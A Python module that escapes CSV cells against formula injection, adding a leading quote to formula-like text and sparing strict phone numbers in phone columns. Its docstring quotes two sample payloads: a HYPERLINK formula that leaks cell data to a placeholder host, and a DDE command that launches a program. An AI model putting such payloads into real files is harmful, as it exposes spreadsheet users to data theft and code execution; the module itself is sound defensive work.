"""Spreadsheet-safe CSV cells: the project's one defence against CSV (formula) injection.

A spreadsheet that opens a CSV runs a cell starting with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or a carriage return) as a formula: ``=HYPERLINK("http://x/?"&A1, "open")`` leaks
data when clicked, ``+cmd|' /C calc'!A0`` starts a program. Every CSV the project writes (audience
exports, ingest rejects files, ``features --out``) passes its cells through :func:`escape_cell`, which
puts a single quote in front of such text (OWASP's advice). The quote is the only change, so the
original value stays readable, and a reader sees at once that the cell was defused.

Only text is escaped: real numbers are written as they are (the number ``-2.5`` is untouched, the
text ``"-2+3"`` becomes ``'-2+3``).

One exception, for phone columns only (``phone=True``): a phone number in international form, a
``+`` then a digit, then only digits, spaces, brackets and dashes (``+44 20 7946 0000``), is kept as
it is, because the audience export feeds SMS tools, which would reject ``'+44…``. Such a cell holds
no letters, quotes, ``!`` or ``|``, so it can call no function and reach no other program; the
worst a spreadsheet does with it is show it as a sum. Anything else in a phone column that starts
with a formula character (``+cmd|' /C calc'!A0``, ``-1+1``) is escaped like any other text.

This module imports nothing from the feature packages (pandas only inside :func:`escape_frame`).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable
from typing import IO, Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""A text cell starting with one of these is run as a formula by some spreadsheet."""
PHONE_NUMBER = re.compile(r"\+[0-9][0-9 ()\-]{5,19}")
"""An international phone number, kept readable in phone columns (matched in full)."""


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return text.startswith(FORMULA_START)


def escape_cell(value: Any, *, phone: bool = False) -> Any:
    """``value`` made safe for a CSV cell: formula-like text gets a leading ``'``; anything else
    (numbers, dates, missing values, plain text) is returned unchanged. With ``phone``, a strict
    international phone number (:data:`PHONE_NUMBER`) is also left as it is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if phone and PHONE_NUMBER.fullmatch(value):
        return value
    return "'" + value


def escape_row(values: Iterable[Any], phone_columns: Collection[int] = ()) -> list[Any]:
    """One CSV row with every cell passed through :func:`escape_cell` (``phone_columns``: positions)."""
    return [escape_cell(v, phone=i in phone_columns) for i, v in enumerate(values)]


class SafeWriter:
    """A :func:`csv.writer` whose rows (the header too) are escaped cell by cell."""

    def __init__(self, fh: IO[str], phone_columns: Collection[int] = (), **fmtparams: Any) -> None:
        self._writer = csv.writer(fh, **fmtparams)
        self.phone_columns = frozenset(phone_columns)

    def writerow(self, row: Iterable[Any]) -> None:
        """Write one escaped row."""
        self._writer.writerow(escape_row(row, self.phone_columns))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write escaped rows."""
        for row in rows:
            self.writerow(row)


def escape_frame(frame: Any, phone_columns: Collection[str] = ()) -> Any:
    """A copy of the DataFrame ``frame`` safe to write with ``to_csv``: the column names and every
    text cell escaped; numeric, boolean and date/time columns untouched (``phone_columns``: names)."""
    out = frame.copy()
    for position, name in enumerate(frame.columns):
        column = frame.iloc[:, position]
        if _holds_text(column.dtype):
            phone = name in phone_columns
            out.isetitem(position, column.astype(object).map(lambda v, p=phone: escape_cell(v, phone=p)))
    out.columns = [escape_cell(c) for c in frame.columns]
    if _holds_text(out.index.dtype):
        out.index = out.index.map(escape_cell)
    return out


def _holds_text(dtype: Any) -> bool:
    """Whether a column of this dtype can hold text (object, string, category): not numbers or times."""
    from pandas.api import types

    return not (types.is_numeric_dtype(dtype) or types.is_bool_dtype(dtype)
                or types.is_datetime64_any_dtype(dtype) or types.is_timedelta64_dtype(dtype))


def write_frame(frame: Any, path: Any, phone_columns: Collection[str] = (), **to_csv: Any) -> None:
    """``frame.to_csv(path, index=False, **to_csv)`` with every text cell escaped (:func:`escape_frame`).

    Lines end in ``\r\n`` (RFC 4180, as :mod:`csv` writes) unless ``lineterminator`` is given: then a
    cell holding a bare carriage return is quoted too, so the file reads back as written."""
    to_csv.setdefault("index", False)
    to_csv.setdefault("lineterminator", "\r\n")
    escape_frame(frame, phone_columns).to_csv(path, **to_csv)
